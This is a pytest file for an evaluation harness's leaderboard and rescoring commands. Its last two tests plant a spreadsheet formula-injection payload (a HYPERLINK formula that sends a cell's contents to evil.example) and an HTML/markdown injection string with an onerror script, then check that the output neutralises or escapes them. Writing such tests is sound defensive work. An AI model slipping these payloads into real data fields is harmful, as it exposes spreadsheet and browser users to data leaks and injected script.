"""`leaderboard` and `score RUN_DIR` on run folders made by real runs (chance backend, scripted models)."""

from __future__ import annotations

import json
import re
import statistics
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from kosmos_eval.cli import app
from kosmos_eval.config import RunConfig
from kosmos_eval.errors import UserError
from kosmos_eval.generators.vqa import write_vqav2
from kosmos_eval.reporting.leaderboard import leaderboard, wide
from kosmos_eval.reporting.paper import paper_column_order, paper_numbers
from kosmos_eval.reporting.rescore import rescore
from kosmos_eval.reporting.runs import find_runs, load_run
from kosmos_eval.runner.results import SAMPLES, RunFolder
from kosmos_eval.runner.run import evaluate
from tests.backends import ScriptedBackend
from tests.runs import chance_run, tiny_raven_run


def summary_of(run_dir: Path) -> dict:
    return json.loads((run_dir / "summary.json").read_text())


def test_tidy_rows_are_the_summaries_on_the_paper_scale_beside_the_paper(tmp_path):
    run = chance_run(tmp_path / "runs")
    table = leaderboard(find_runs([tmp_path / "runs"]), paper_numbers())
    ours = table[table["source"] == "run"].set_index("metric")
    accuracy = summary_of(run)["metrics"]["accuracy"]
    assert ours.loc["accuracy", "value"] == pytest.approx(accuracy["value"] * 100)
    assert ours.loc["accuracy", "ci_low"] == pytest.approx(accuracy["ci_low"] * 100)
    assert ours.loc["accuracy", "n"] == 20
    assert ours.loc["accuracy", "model"] == "chance" and ours.loc["accuracy", "seeds"] == "1234"
    reference = table[table["source"] == "paper"]
    # only the tasks the runs cover: raven's three Table 6 rows
    assert sorted(zip(reference["model"], reference["value"], strict=True)) == [
        ("KOSMOS-1", 22.0),
        ("KOSMOS-1 w/o language-only instruction tuning", 26.0),
        ("Random Choice", 17.0),
    ]
    assert list(table["source"])[:2] == ["run", "run"]  # the user's rows first


def test_several_seeds_are_averaged_and_the_latest_run_wins(tmp_path):
    first = [chance_run(tmp_path / "old", seed=s) for s in (1, 2, 3)]
    values = [summary_of(r)["metrics"]["accuracy"]["value"] * 100 for r in first]
    table = leaderboard(find_runs([tmp_path / "old"]))
    row = table[(table["metric"] == "accuracy")].iloc[0]
    assert row["seeds"] == "1,2,3"
    assert row["value"] == pytest.approx(statistics.fmean(values))
    assert row["std"] == pytest.approx(statistics.stdev(values))
    assert pd.isna(row["ci_low"])  # across seeds the spread is the honest interval

    # the same setting again (seed 1, 30 examples) in another root: newer, so it replaces the old seed-1 run
    newer = chance_run(tmp_path / "new", seed=1, limit=30)
    summary = summary_of(newer)
    summary["created"] = "2999-01-01T00:00:00+00:00"
    (newer / "summary.json").write_text(json.dumps(summary))
    runs = find_runs([tmp_path / "old", tmp_path / "new"])
    latest = leaderboard(runs)
    row = latest[latest["metric"] == "accuracy"].iloc[0]
    expected = [summary["metrics"]["accuracy"]["value"] * 100, *values[1:]]
    assert row["value"] == pytest.approx(statistics.fmean(expected))
    everything = leaderboard(runs, all_runs=True)
    assert len(everything[everything["metric"] == "accuracy"]) == 4


def test_wide_table_follows_the_paper_order_with_one_row_per_model(tmp_path):
    chance_run(tmp_path / "runs")
    table = leaderboard(find_runs([tmp_path / "runs"]), paper_numbers())
    pivot = wide(table, paper_column_order())
    assert list(pivot.columns) == ["source", "model", "raven accuracy 0-shot"]
    assert pivot["model"].iloc[0] == "chance"
    kosmos = pivot[pivot["model"] == "KOSMOS-1"].iloc[0]
    assert kosmos["raven accuracy 0-shot"] == 22.0

    # with no runs at all, the paper's own tables: the first columns are Table 2's, in its order
    paper_only = wide(leaderboard([], paper_numbers()), paper_column_order())
    assert list(paper_only.columns[2:6]) == [
        "coco_caption cider 0-shot",
        "coco_caption spice 0-shot",
        "flickr30k cider 0-shot",
        "flickr30k spice 0-shot",
    ]
    row = paper_only[paper_only["model"] == "Flamingo-9B"].iloc[0]
    assert row["vqav2 accuracy 8-shot"] == 58.0


def test_leaderboard_command_writes_csv_and_markdown(tmp_path):
    chance_run(tmp_path / "runs")
    out = tmp_path / "board" / "leaderboard.csv"
    runner = CliRunner()
    result = runner.invoke(app, ["leaderboard", str(tmp_path / "runs"), "-o", str(out)])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out, keep_default_na=False)
    assert set(frame["source"]) == {"run", "paper"}
    assert list(frame.columns[:6]) == ["source", "model", "fingerprint", "task", "variant", "shots"]
    markdown = runner.invoke(app, ["leaderboard", str(tmp_path / "runs"), "--wide", "--markdown"])
    assert markdown.exit_code == 0
    lines = markdown.output.splitlines()
    assert lines[0] == "| source | model | raven accuracy 0-shot |"
    assert "| paper | KOSMOS-1 | 22.0 |" in lines
    missing = runner.invoke(app, ["leaderboard", str(tmp_path / "nowhere")])
    assert missing.exit_code == 2 and "no such file or folder" in missing.output


# -- score RUN_DIR ------------------------------------------------------------------------------------------


def vqa_run(tmp_path: Path, answer: str) -> Path:
    data = tmp_path / "vqav2"
    write_vqav2(data, "val", [("how many dogs?", ["2"] * 10, "number"), ("what color?", ["red"] * 10, "other")])
    config = RunConfig(task="vqav2", backend="scripted", split="val", data_dir=str(data), output_dir=str(tmp_path))
    return evaluate(config, backend=ScriptedBackend(lambda request: answer), progress=False).run_dir


def test_score_recomputes_per_sample_scores_from_the_recorded_outputs(tmp_path):
    run = vqa_run(tmp_path, "Two")  # the official normalisation turns "Two" into "2": right on question 1
    assert summary_of(run)["metrics"]["accuracy"]["value"] == 0.5
    # simulate a per-sample metric bug in an older harness: every record scored 0
    lines = [json.loads(line) for line in (run / SAMPLES).read_text().splitlines()]
    (run / SAMPLES).write_text("".join(json.dumps({**r, "accuracy": 0.0}) + "\n" for r in lines))

    path, rescored = rescore(run)
    assert rescored.summary_path == path and path.name.startswith("summary-rescored-")
    assert rescored.summary["metrics"]["accuracy"]["value"] == 0.5  # 1 of 2 questions right again
    assert rescored.summary["rescored"]["per_sample"] == "recomputed"
    assert [r["accuracy"] for r in rescored.records] == [1.0, 0.0]
    assert json.loads((run / "summary.json").read_text())["metrics"]["accuracy"]["value"] == 0.5  # kept

    # a scoring option: without the normalisation "Two" is not "2"
    _, raw = rescore(run, {"raw_answers": "true"})
    assert raw.summary["metrics"]["accuracy"]["value"] == 0.0
    assert raw.variant == "raw_answers=true"
    assert load_run(run).summary_path == raw.summary_path  # the newest summary is the run's result

    with pytest.raises(UserError, match="changes what the model was asked"):
        rescore(run, {"max_new_tokens": "3"})
    with pytest.raises(UserError, match="has no option"):
        rescore(run, {"colour": "blue"})


def test_score_without_raw_outputs_or_data_recomputes_the_corpus_metrics_only(tmp_path):
    run = vqa_run(tmp_path, "red")
    lines = [json.loads(line) for line in (run / SAMPLES).read_text().splitlines()]
    (run / SAMPLES).write_text(
        "".join(json.dumps({k: v for k, v in r.items() if k != "outputs"}) + "\n" for r in lines)
    )
    _, rescored = rescore(run)
    assert rescored.summary["metrics"]["accuracy"]["value"] == 0.5
    assert rescored.summary["rescored"]["per_sample"].startswith("kept: the records have no raw outputs")


def test_score_command_prints_old_and_new_values(tmp_path):
    run = chance_run(tmp_path / "runs")
    result = CliRunner().invoke(app, ["score", str(run)])
    assert result.exit_code == 0, result.output
    accuracy = summary_of(run)["metrics"]["accuracy"]["value"] * 100
    assert f"accuracy                 {accuracy:.2f}   (was {accuracy:.2f})" in result.output
    assert "per-sample scores: recomputed" in result.output
    bad = CliRunner().invoke(app, ["score", str(tmp_path)])
    assert bad.exit_code == 2 and "no summary.json" in bad.output


def test_tiny_model_run_reads_back_and_rescores_to_the_same_numbers(tmp_path, tiny_kosmos2):
    run_dir = tiny_raven_run(tmp_path / "runs", tiny_kosmos2)
    original = summary_of(run_dir)
    row = leaderboard(find_runs([run_dir])).set_index("metric").loc["accuracy"]
    assert row["model"] == tiny_kosmos2.name  # a local folder goes by its name, not the machine's path
    assert row["fingerprint"] == original["fingerprint"]["weights_sha256"][:12]

    _, rescored = rescore(run_dir)
    assert rescored.summary["rescored"]["per_sample"] == "recomputed"
    assert rescored.summary["metrics"] == original["metrics"]  # same outputs, same code: same numbers
    before = list(RunFolder(run_dir).load_records().values())  # the original samples.jsonl
    assert [r["candidates"] for r in rescored.records] == [r["candidates"] for r in before]
    assert [r["prediction"] for r in rescored.records] == [r["prediction"] for r in before]


@pytest.mark.parametrize("wide_table", [False, True])
def test_leaderboard_csv_neutralises_cells_a_spreadsheet_would_evaluate(tmp_path, wide_table):
    run = chance_run(tmp_path / "runs")
    summary = summary_of(run)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    summary["model"] = payload  # as an OpenAI-compatible server may name its model
    (run / "summary.json").write_text(json.dumps(summary))
    out = tmp_path / "leaderboard.csv"
    args = ["leaderboard", str(tmp_path / "runs"), "-o", str(out)] + (["--wide"] if wide_table else [])
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    cells = [cell for row in pd.read_csv(out, keep_default_na=False, dtype=str).itertuples() for cell in row[1:]]
    assert "'" + payload in cells
    assert not [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "@")]
    # numbers stay numbers: a negative delta or value is not text and is not prefixed
    assert "'-" not in out.read_text().replace("'" + payload, "")


def test_markdown_tables_keep_planted_names_as_text(tmp_path):
    run = chance_run(tmp_path / "runs")
    summary = summary_of(run)
    summary["model"] = "m | ![t](http://evil.example/t.png)\n<img src=x onerror=alert(1)>"
    (run / "summary.json").write_text(json.dumps(summary))
    result = CliRunner().invoke(app, ["leaderboard", str(tmp_path / "runs"), "--wide", "--markdown"])
    assert result.exit_code == 0, result.output
    row = next(line for line in result.output.splitlines() if line.startswith("| run |"))
    assert row.startswith("| run | m \\| !\\[t\\](http://evil.example/t.png) &lt;img src=x onerror=alert(1)&gt; | ")
    assert len(re.findall(r"(?<!\\)\|", row)) == 4  # three cells: source, model, the one task column
